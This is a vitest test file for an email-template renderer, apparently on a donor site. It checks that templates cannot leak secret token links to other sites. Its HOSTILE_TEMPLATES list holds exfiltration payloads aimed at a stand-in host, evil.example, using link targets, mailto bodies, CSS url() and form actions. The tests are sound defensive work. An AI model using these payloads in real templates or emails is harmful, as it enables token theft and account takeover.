import { describe, expect, it } from "vitest";
import { builtInTemplates } from "../rules/built-in-templates.ts";
import { listPlaceholders, type TokenLink } from "../rules/mail-placeholders.ts";
import { cleanStoredHtml } from "../html/clean-stored-html.ts";
import { UnsendableMailError } from "./placeholders.ts";
import { type MailLinks, renderMail } from "./render-mail.ts";
import { createSampleMail, findTemplateProblem } from "./sample-mail.ts";

const SITE_URL = "https://www.example.org";
const TOKEN = "Zq7-secret";
const LINK = `${SITE_URL}/page#token=${TOKEN}`;
/** The type makes sure that a new link with a token is tested, too. */
const LINKS: Required<MailLinks> = {
  giftLink: LINK,
  activationLink: LINK,
  invitationLink: LINK,
  emailChangeLink: LINK,
  stopLink: LINK,
};
const NAMES = Object.keys(LINKS) as TokenLink[];
const EVIL = "https://evil.example";

/** Templates that try to take a token elsewhere; `@` stands for the placeholder. */
const HOSTILE_TEMPLATES = [
  `<a href="${EVIL}/?t=@">Open</a>`,
  `<a href="${EVIL}#@">Open</a>`,
  `<a href="@.evil.example/">Open</a>`,
  `<a href="@@evil.example/">Open</a>`.replace("@@", "@&#64;"),
  `<a href="{{siteUrl}}.evil.example/@">Open</a>`,
  `<a href="{{siteUrl}}@">Open</a>`,
  `<a href="mailto:thief@evil.example?body=@">Reply</a>`.replace("thief@", "thief%40"),
  `<a href="tel:@">Call</a>`,
  `<a href="//evil.example/@">Open</a>`,
  `<a href=' @'>Open</a>`,
  `<a href="$@">Open</a>`,
  `<a href="/images/@">Open</a>`,
  `<img src="/images/site/@" alt="">`,
  `<img src="/images/site/x" alt="${EVIL}/@">`,
  `<p title="@">Hello</p>`,
  `<p style="background: url(${EVIL}/@)">Hello</p>`,
  `<p>${EVIL}/?t=@</p>`,
  `<p>@</p>`,
  `<p>${EVIL}/?t=<a href="@"></a></p>`,
  `<p>${EVIL}/?t=<a href="@">${EVIL}/</a>.evil.example</p>`,
  `<pre>${EVIL}/{{@}}</pre>`,
  `<base href="${EVIL}/"><form action="${EVIL}"><input name="t" value="@"></form>`,
  `<a href="&#123;&#123;@&#125;&#125;${EVIL}">Open</a>`,
];

/** Every place in an email from which a reader's program could read an address. */
const listAddresses = (html: string, text: string): string[] =>
  [
    ...html.matchAll(/(?:href|src|action|title|alt|value|style)="([^"]*)"/g),
    ...text.matchAll(/(\S+)/g),
    ...html.replaceAll(/<[^>]*>/g, " ").matchAll(/(\S+)/g),
  ].map(([, address = ""]) => address);

function findForeignAddresses(
  templateName: string,
  template: { subject: string; htmlContent: string },
) {
  try {
    const { mail } = createSampleMail(templateName, SITE_URL);
    const rendered = renderMail(mail, {
      organization: {
        organizationName: "Lamplight",
        taxId: "12-3456789",
        address: "1 Street",
        phone: "(817) 555-0100",
        email: "team@example.org",
      },
      siteUrl: SITE_URL,
      template: { ...template, isActive: true },
      ...LINKS,
    });
    return [rendered.subject, ...listAddresses(rendered.html, rendered.text)].filter(
      (address) => address.includes(TOKEN) && !address.startsWith(`${SITE_URL}/`),
    );
  } catch (error) {
    if (error instanceof UnsendableMailError) return [];
    throw error;
  }
}

describe("threat 68: a template", () => {
  it.each(HOSTILE_TEMPLATES)("takes no token to another site: %s", (template) => {
    for (const name of NAMES) {
      const placeholder = `{{${name}}}`;
      const htmlContent = template.replaceAll("@", placeholder);
      const texts = [
        { subject: "Hello", htmlContent },
        { subject: "Hello", htmlContent: cleanStoredHtml(htmlContent, "mail") },
        { subject: htmlContent.replaceAll(/<[^>]*>/g, ""), htmlContent: "<p>Hello</p>" },
        { subject: `${EVIL}/${placeholder}`, htmlContent: "<p>Hello</p>" },
      ];
      for (const text of texts) expect(findForeignAddresses("Gift Link", text)).toEqual([]);
    }
  });

  it.each(HOSTILE_TEMPLATES.slice(0, 6))("is refused when it's saved: %s", (template) => {
    const htmlContent = template.replaceAll("@", "{{giftLink}}");
    expect(findTemplateProblem("Gift Link", { subject: "Hello", htmlContent })).toMatch(
      /whole address of a link|inside an HTML tag/,
    );
  });

  it("has no token in its subject, in whichever email that token is", () => {
    const links = Object.keys(builtInTemplates).flatMap((template) =>
      Object.keys(listPlaceholders(template))
        .filter((name) => (NAMES as readonly string[]).includes(name))
        .map((name) => ({ template, name })),
    );
    expect(links.length).toBeGreaterThan(0);
    for (const { template, name } of links) {
      const text = { subject: `Open {{${name}}}`, htmlContent: "<p>Hello</p>" };
      expect(findTemplateProblem(template, text), name).toMatch(/can't be in the subject/);
    }
  });

  it.each([
    '<p><a href="{{giftLink}}">Open</a></p>',
    '<p><a class="button" href="{{ giftLink }}">Open</a></p>',
  ])("may link to the donor's gifts: %s", (htmlContent) => {
    expect(findTemplateProblem("Gift Link", { subject: "Hello", htmlContent })).toBeNull();
  });

  it.each([
    ['<a href="{{siteUrl}}">Open</a>', null],
    ['<a href="{{siteUrl}}/news?x=1#top">Open</a>', null],
    ["<p>{{siteUrl}}</p>", null],
    ['<a href="{{siteUrl}}.evil.example">Open</a>', /inside an HTML tag/],
    ['<a href="{{siteUrl}}%40evil.example">Open</a>', /inside an HTML tag/],
    [`<a href="${EVIL}/{{siteUrl}}">Open</a>`, /inside an HTML tag/],
  ])("may begin the address of a link with our own: %s", (htmlContent, problem) => {
    const found = findTemplateProblem("Gift Link", { subject: "Hello", htmlContent });
    if (problem === null) expect(found).toBeNull();
    else expect(found).toMatch(problem);
  });

  it("has no link with a token if it isn't one of ours, because it may go to many people", () => {
    for (const name of NAMES) {
      const htmlContent = `<p><a href="{{${name}}}">Open</a></p>`;
      expect(findTemplateProblem("Spring Appeal", { subject: "Hello", htmlContent })).toMatch(
        "but this email only has",
      );
      expect(Object.keys(listPlaceholders("Spring Appeal"))).not.toContain(name);
    }
  });

  it.each(Object.entries(builtInTemplates))("is fine as it's built in: %s", (name, template) => {
    expect(findTemplateProblem(name, template)).toBeNull();
  });
});
